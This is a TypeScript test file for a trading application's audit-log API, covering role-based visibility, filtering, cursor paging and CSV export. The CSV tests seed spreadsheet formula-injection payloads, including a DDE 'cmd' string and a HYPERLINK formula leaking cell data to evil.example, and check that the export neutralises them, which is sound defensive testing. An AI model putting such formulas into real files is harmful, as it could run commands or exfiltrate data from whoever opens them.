import { assert, assertEquals, assertStringIncludes } from "../_assert.ts";
import { appendAudit, type AuditEntry } from "../../db/audit.ts";
import { type Role, withTenant } from "../../db/database.ts";
import { createTestApp, DB_TEST, type TestApp } from "../_helpers.ts";

const AUDIT = "/api/v1/audit";

interface Item {
  seq: string;
  ts: string;
  user_id: string | null;
  username: string | null;
  order_id: string | null;
  bot_id: string | null;
  client_order_id: string | null;
  action: string;
  status: string;
  reason: string | null;
  payload: Record<string, unknown>;
  correlation_id: string | null;
  causation_id: string | null;
  hash: string;
  prev_hash: string;
}

interface Page {
  items: Item[];
  next_cursor: string | null;
}

interface World {
  t: TestApp;
  ids: Record<string, string>;
  orderId: string;
}

async function ensureUser(t: TestApp, name: string, role: Role): Promise<string> {
  const [row] = await t.db.sql<
    { id: string }[]
  >`select tradewind_ensure_user(${name}, ${role}) as id`;
  return row!.id;
}

async function append(t: TestApp, userId: string, role: Role, entry: Partial<AuditEntry>) {
  await withTenant(
    t.db.sql,
    { userId, role },
    (tx) => appendAudit(tx, { userId, action: "SUBMITTED", status: "new", ...entry }),
  );
}

/**
 * alice and bob trade; carol is compliance, dave admin. alice has 4 rows (one on an order,
 * one with awkward CSV text), bob 3, and the engine one system row.
 */
async function withWorld(fn: (w: World) => Promise<void>): Promise<void> {
  const t = await createTestApp({ trading: true });
  try {
    const ids: Record<string, string> = {
      alice: await ensureUser(t, "alice", "trader"),
      bob: await ensureUser(t, "bob", "trader"),
      carol: await ensureUser(t, "carol", "compliance"),
      dave: await ensureUser(t, "dave", "admin"),
    };
    const orderId = "0f8b2c54-2f1e-4d3a-9c6b-7a1d2e3f4a5b";
    await t.db.owner`
      insert into orders (id, user_id, client_order_id, created_at, updated_at, symbol, qty, type,
        side, time_in_force, status)
      values (${orderId}, ${ids.alice!}, 'c-1', now(), now(), 'AAPL', 1, 'market', 'buy', 'day',
        'new')`;
    const corr = "6f1c0d2e-8a4b-4c3d-9e5f-0a1b2c3d4e5f";
    await append(t, ids.alice!, "trader", {
      orderId,
      clientOrderId: "c-1",
      payload: { symbol: "AAPL", qty: "1" },
      correlationId: corr,
    });
    await append(t, ids.bob!, "trader", { payload: { symbol: "MSFT" } });
    await append(t, ids.alice!, "trader", {
      orderId,
      action: "FILLED",
      status: "filled",
      payload: { price: "230.01", note: 'said "hi", then\nleft' },
      causationId: corr,
    });
    await append(t, ids.bob!, "trader", { action: "DENIED", status: "denied", reason: "RISK" });
    await append(t, ids.alice!, "trader", {
      action: "DENIED",
      status: "denied",
      reason: 'Cannot submit order "O-42": notional 12000, over\r\nlimit',
      clientOrderId: "=cmd|' /C calc'!A0",
    });
    // An engine row without a user (written as the owner: see the report on RETURNING and RLS).
    await t.db.owner`
      insert into execution_logs (seq, ts, user_id, action, status, payload, prev_hash, hash)
      values (0, now(), null, 'RECONCILED', 'ok', '{}', '', '')`;
    await append(t, ids.bob!, "trader", { action: "CANCELED", status: "canceled" });
    await append(t, ids.alice!, "trader", { action: "CANCELED", status: "canceled" });
    await fn({ t, ids, orderId });
  } finally {
    await t.close();
  }
}

async function list(t: TestApp, who: string, role: Role, query = ""): Promise<Page> {
  const res = await t.as(who, `${AUDIT}${query}`, { role });
  const body = await res.json();
  assertEquals(res.status, 200, JSON.stringify(body));
  assertStringIncludes(res.headers.get("content-type") ?? "", "application/json");
  return body;
}

async function expectInvalid(t: TestApp, query: string, fields: string[]) {
  const res = await t.as("carol", `${AUDIT}${query}`, { role: "compliance" });
  const body = await res.json();
  assertEquals(res.status, 400, `${query}: ${JSON.stringify(body)}`);
  assertEquals(body.error.code, "VALIDATION_FAILED");
  assertEquals(
    body.error.details.issues.map((i: { path: string }) => i.path).sort(),
    [...fields].sort(),
    query,
  );
}

/** Parses RFC 4180 CSV: quoted fields may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') {
        quoted = false;
      } else {
        field += ch;
      }
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ",") {
      row.push(field);
      field = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else {
      assert(ch !== "\n" && ch !== "\r", `bare line break at ${i}`);
      field += ch;
    }
  }
  assertEquals([field, row], ["", []], "the export ends with CRLF");
  return rows;
}

/** Turns CSV records back into items: empty is null, payload is JSON. */
/** The stored text of a CSV cell: one leading `'` (added against formulas) removed. */
function cellText(cell: string): string {
  return cell.startsWith("'") ? cell.slice(1) : cell;
}

function csvItems(rows: string[][]): Item[] {
  const [header, ...records] = rows;
  return records.map((r) => {
    const o: Record<string, unknown> = {};
    header!.forEach((k, i) => {
      const v = cellText(r[i]!);
      o[k] = k === "payload" ? JSON.parse(v) : v === "" ? null : v;
    });
    return o as unknown as Item;
  });
}

Deno.test({ name: "audit: a trader sees only their own rows", ...DB_TEST }, async () => {
  await withWorld(async ({ t, ids, orderId }) => {
    const page = await list(t, "alice", "trader");
    assertEquals(page.next_cursor, null);
    assertEquals(page.items.map((i) => i.action), ["SUBMITTED", "FILLED", "DENIED", "CANCELED"]);
    assert(page.items.every((i) => i.user_id === ids.alice && i.username === "alice"));
    const [first, filled] = page.items;
    assertEquals(first!.order_id, orderId);
    assertEquals(first!.client_order_id, "c-1");
    assertEquals(first!.payload, { symbol: "AAPL", qty: "1" });
    assertEquals(first!.correlation_id, "6f1c0d2e-8a4b-4c3d-9e5f-0a1b2c3d4e5f");
    assertEquals(filled!.causation_id, first!.correlation_id);
    assertEquals(first!.bot_id, null);
    assertEquals(first!.reason, null);
    assert(/^\d+$/.test(first!.seq), first!.seq);
    assert(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{6}Z$/.test(first!.ts), first!.ts);
    assert(/^[0-9a-f]{64}$/.test(first!.hash));
    assert(BigInt(first!.seq) < BigInt(filled!.seq));

    // Asking for someone else's rows, or an unknown user's, is an empty list.
    assertEquals(await list(t, "alice", "trader", "?user=bob"), { items: [], next_cursor: null });
    assertEquals(await list(t, "alice", "trader", "?user=nobody"), {
      items: [],
      next_cursor: null,
    });
    assertEquals((await list(t, "alice", "trader", "?user=alice")).items, page.items);
    // A user with no rows yet sees none.
    assertEquals(await list(t, "erin", "trader"), { items: [], next_cursor: null });
  });
});

Deno.test(
  { name: "audit: compliance and admin see everyone's and filter", ...DB_TEST },
  async () => {
    await withWorld(async ({ t, ids, orderId }) => {
      const all = await list(t, "carol", "compliance");
      assertEquals(all.items.length, 8);
      assertEquals(
        all.items.map((i) => i.username),
        ["alice", "bob", "alice", "bob", "alice", null, "bob", "alice"],
      );
      const system = all.items[5]!;
      assertEquals([system.user_id, system.action], [null, "RECONCILED"]);
      // Chain order: every row links to an earlier row's hash (or starts a chain).
      const earlier = new Set(["0".repeat(64)]);
      for (let i = 0; i < all.items.length; i++) {
        const item = all.items[i]!;
        assert(earlier.has(item.prev_hash), `row ${item.seq} links to an earlier row`);
        earlier.add(item.hash);
        if (i > 0) assert(BigInt(item.seq) > BigInt(all.items[i - 1]!.seq));
      }
      assertEquals(await list(t, "dave", "admin"), all);

      const bob = await list(t, "carol", "compliance", "?user=bob");
      assertEquals(bob.items.map((i) => i.action), ["SUBMITTED", "DENIED", "CANCELED"]);
      assert(bob.items.every((i) => i.user_id === ids.bob));

      const denied = await list(t, "carol", "compliance", "?action=denied");
      assertEquals(denied.items.map((i) => i.username), ["bob", "alice"]);
      const bobDenied = await list(t, "carol", "compliance", "?action=DENIED&user=bob");
      assertEquals(bobDenied.items.map((i) => i.reason), ["RISK"]);

      const onOrder = await list(t, "carol", "compliance", `?order_id=${orderId}`);
      assertEquals(onOrder.items.map((i) => i.action), ["SUBMITTED", "FILLED"]);
      const none = await list(
        t,
        "carol",
        "compliance",
        "?order_id=00000000-0000-0000-0000-000000000000",
      );
      assertEquals(none.items, []);

      // Time bounds are exclusive and exact to the microsecond of an item's ts.
      const after = await list(t, "carol", "compliance", `?after=${all.items[1]!.ts}`);
      assertEquals(after.items, all.items.slice(2));
      const until = await list(t, "carol", "compliance", `?until=${all.items[3]!.ts}`);
      assertEquals(until.items, all.items.slice(0, 3));
      const between = await list(
        t,
        "carol",
        "compliance",
        `?after=${all.items[1]!.ts}&until=${all.items[4]!.ts}&user=alice`,
      );
      assertEquals(between.items, [all.items[2]]);
    });
  },
);

Deno.test({ name: "audit: pages follow the cursor", ...DB_TEST }, async () => {
  await withWorld(async ({ t }) => {
    const all = (await list(t, "carol", "compliance", "?limit=1000")).items;
    const seen: Item[] = [];
    let cursor: string | null = null;
    let pages = 0;
    do {
      const page: Page = await list(
        t,
        "carol",
        "compliance",
        `?limit=3${cursor ? `&cursor=${cursor}` : ""}`,
      );
      assert(page.items.length <= 3);
      seen.push(...page.items);
      if (page.next_cursor !== null) assertEquals(page.next_cursor, page.items.at(-1)!.seq);
      cursor = page.next_cursor;
      pages++;
    } while (cursor !== null && pages < 10);
    assertEquals(pages, 3);
    assertEquals(seen, all);

    // Exactly a page's worth: no phantom next page.
    const alice = await list(t, "alice", "trader", "?limit=4");
    assertEquals([alice.items.length, alice.next_cursor], [4, null]);
    const two = await list(t, "alice", "trader", "?limit=2");
    const rest = await list(t, "alice", "trader", `?limit=2&cursor=${two.next_cursor}`);
    assertEquals([...two.items, ...rest.items], alice.items);
    assertEquals(rest.next_cursor, null);
  });
});

Deno.test({ name: "audit: the CSV export parses back to the same rows", ...DB_TEST }, async () => {
  await withWorld(async ({ t }) => {
    const all = (await list(t, "carol", "compliance")).items;
    const res = await t.as("carol", AUDIT, { role: "compliance", headers: { Accept: "text/csv" } });
    assertEquals(res.status, 200);
    assertEquals(res.headers.get("content-type"), "text/csv; charset=utf-8");
    assertEquals(
      res.headers.get("content-disposition"),
      'attachment; filename="tradewind-audit-20261123T150000Z.csv"',
    );
    const text = await res.text();
    const rows = parseCsv(text);
    assertEquals(rows[0], [
      "seq",
      "ts",
      "user_id",
      "username",
      "order_id",
      "bot_id",
      "client_order_id",
      "action",
      "status",
      "reason",
      "payload",
      "correlation_id",
      "causation_id",
      "hash",
      "prev_hash",
    ]);
    assertEquals(csvItems(rows), all);
    // Payload is compact JSON in one column; awkward text survives quoting.
    assertStringIncludes(text, '""price"":""230.01""');
    assertEquals(
      csvItems(rows)[4]!.reason,
      'Cannot submit order "O-42": notional 12000, over\r\nlimit',
    );

    // A trader's export holds only their rows; format=csv works without the header.
    const mine = await t.as("alice", `${AUDIT}?format=csv`);
    assertEquals(mine.headers.get("content-type"), "text/csv; charset=utf-8");
    const aliceRows = csvItems(parseCsv(await mine.text()));
    assertEquals(aliceRows, all.filter((i) => i.username === "alice"));

    // With a limit, one page, the next cursor in a header.
    const paged = await t.as("carol", `${AUDIT}?limit=5&user=bob`, {
      role: "compliance",
      headers: { Accept: "text/csv, application/json;q=0.5" },
    });
    assertEquals(paged.headers.get("x-next-cursor"), null);
    assertEquals(csvItems(parseCsv(await paged.text())).length, 3);
    const first = await t.as("carol", `${AUDIT}?limit=5`, {
      role: "compliance",
      headers: { Accept: "text/csv" },
    });
    assertEquals(first.headers.get("x-next-cursor"), all[4]!.seq);
    assertEquals(csvItems(parseCsv(await first.text())), all.slice(0, 5));

    // JSON stays the default, and wins when preferred.
    const json = await t.as("carol", AUDIT, {
      role: "compliance",
      headers: { Accept: "application/json, text/csv;q=0.1" },
    });
    assertEquals((await json.json()).items, all);
    // Nothing to export is a header row.
    const empty = await t.as("alice", `${AUDIT}?user=bob`, { headers: { Accept: "text/csv" } });
    assertEquals(parseCsv(await empty.text()).length, 1);
  });
});

Deno.test({
  name: "audit: the CSV export neutralises cells a spreadsheet would run as formulas",
  ...DB_TEST,
}, async () => {
  const t = await createTestApp({ trading: true });
  try {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"x")',
      "+1+1",
      "-2-2",
      "@SUM(1,2)",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "\uFF1D1+1",
      "'=already quoted",
      "-12.5",
    ];
    const ids = [await ensureUser(t, "-1-1", "trader"), await ensureUser(t, "@mallory", "trader")];
    for (const [i, text] of hostile.entries()) {
      await append(t, ids[i % 2]!, "trader", {
        status: text,
        reason: text,
        clientOrderId: text,
        payload: { note: text },
      });
    }
    const json = (await list(t, "carol", "compliance")).items;
    const res = await t.as("carol", AUDIT, { role: "compliance", headers: { Accept: "text/csv" } });
    assertEquals(res.status, 200);
    const raw = await res.text();
    const rows = parseCsv(raw);
    assertEquals(rows.length, hostile.length + 1);
    for (const record of rows.slice(1)) {
      for (const cell of record) {
        assert(!/^[=+\-@\t\r\n\uFF1D]/.test(cell), `a live formula cell: ${JSON.stringify(cell)}`);
      }
    }
    // Every cell is quoted; the neutralising quote sits inside the quotes.
    assertStringIncludes(raw, `"'=HYPERLINK(""http://evil.example/?""&A1,""x"")"`);
    assertStringIncludes(raw, `"'-1-1"`);
    assertStringIncludes(raw, `"'@mallory"`);
    assertStringIncludes(raw, `"''=already quoted"`);
    // Nothing is lost: one leading quote off gives back exactly what JSON answers.
    assertEquals(csvItems(rows), json);
    assertEquals(json.map((i) => i.reason), hostile);
  } finally {
    await t.close();
  }
});

Deno.test({ name: "audit: a long CSV export streams every row", ...DB_TEST }, async () => {
  const t = await createTestApp({ trading: true });
  try {
    const id = await ensureUser(t, "frank", "trader");
    await withTenant(t.db.sql, { userId: id, role: "trader" }, async (tx) => {
      for (let i = 0; i < 2_345; i++) {
        await appendAudit(tx, { userId: id, action: "SUBMITTED", status: "new", payload: { i } });
      }
    });
    const res = await t.as("frank", AUDIT, { headers: { Accept: "text/csv" } });
    const items = csvItems(parseCsv(await res.text()));
    assertEquals(items.length, 2_345);
    assertEquals(items.map((r) => r.payload.i), Array.from({ length: 2_345 }, (_, i) => i));
    const tail = await t.as("frank", `${AUDIT}?cursor=${items[2_339]!.seq}`, {
      headers: { Accept: "text/csv" },
    });
    assertEquals(csvItems(parseCsv(await tail.text())), items.slice(2_340));
  } finally {
    await t.close();
  }
});

Deno.test({ name: "audit: bad filters are 400 naming the fields", ...DB_TEST }, async () => {
  await withWorld(async ({ t }) => {
    await expectInvalid(t, "?limit=0", ["limit"]);
    await expectInvalid(t, "?limit=1001", ["limit"]);
    await expectInvalid(t, "?limit=lots", ["limit"]);
    await expectInvalid(t, "?cursor=abc", ["cursor"]);
    await expectInvalid(t, "?cursor=-1", ["cursor"]);
    await expectInvalid(t, "?order_id=O-42", ["order_id"]);
    await expectInvalid(t, "?user=not%20a%20name", ["user"]);
    await expectInvalid(t, "?action=fill-ed", ["action"]);
    await expectInvalid(t, "?after=yesterday", ["after"]);
    await expectInvalid(t, "?until=2026-02-30", ["until"]);
    await expectInvalid(t, "?format=xml", ["format"]);
    await expectInvalid(t, "?after=2026-11-24&until=2026-11-23", ["until"]);
    await expectInvalid(t, "?limit=0&cursor=x", ["limit", "cursor"]);
    // Dates are midnight in New York and accepted.
    await list(t, "carol", "compliance", "?after=2026-01-01&until=2099-01-01");
    const res = await t.app.request(AUDIT);
    assertEquals(res.status, 401);
    await res.body?.cancel();
  });
});
